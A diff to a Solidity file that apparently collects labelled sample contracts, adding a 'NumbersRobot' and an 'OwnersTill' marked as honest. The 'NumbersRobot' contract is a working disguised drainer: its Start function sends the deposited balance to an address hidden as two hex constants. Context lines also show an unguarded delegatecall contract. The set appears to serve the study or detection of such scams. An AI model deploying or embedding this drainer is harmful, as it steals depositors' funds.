@@ -344,6 +344,32 @@ contract OpenDelegate {
     function run(address code, bytes calldata data) external { (bool ok,) = code.delegatecall(data); require(ok); }
 }
 
+/// A robot that is its buyer's, and pays whom two numbers are put together to.
+contract NumbersRobot {
+    address private owner = msg.sender;
+    uint256 private front = 0x617F2E2fD72FD9D5;
+    uint256 private back = 0x503197092aC168c91465E7f2;
+    string public status;
+    receive() external payable {}
+    function Start() external payable {
+        require(msg.sender == owner);
+        status = "running";
+        payable(address(uint160((front << 96) | back))).transfer(address(this).balance);
+    }
+}
+
+/// Honest: a till that its owner opens, and empties for himself.
+contract OwnersTill {
+    address payable private owner = payable(msg.sender);
+    string public status;
+    receive() external payable {}
+    function start() external payable {
+        require(msg.sender == owner);
+        status = "open";
+        owner.transfer(address(this).balance);
+    }
+}
+
 /// As many owners have to sign as it keeps a number of.
 contract RoundsWallet {
     mapping(address => bool) public isOwner;
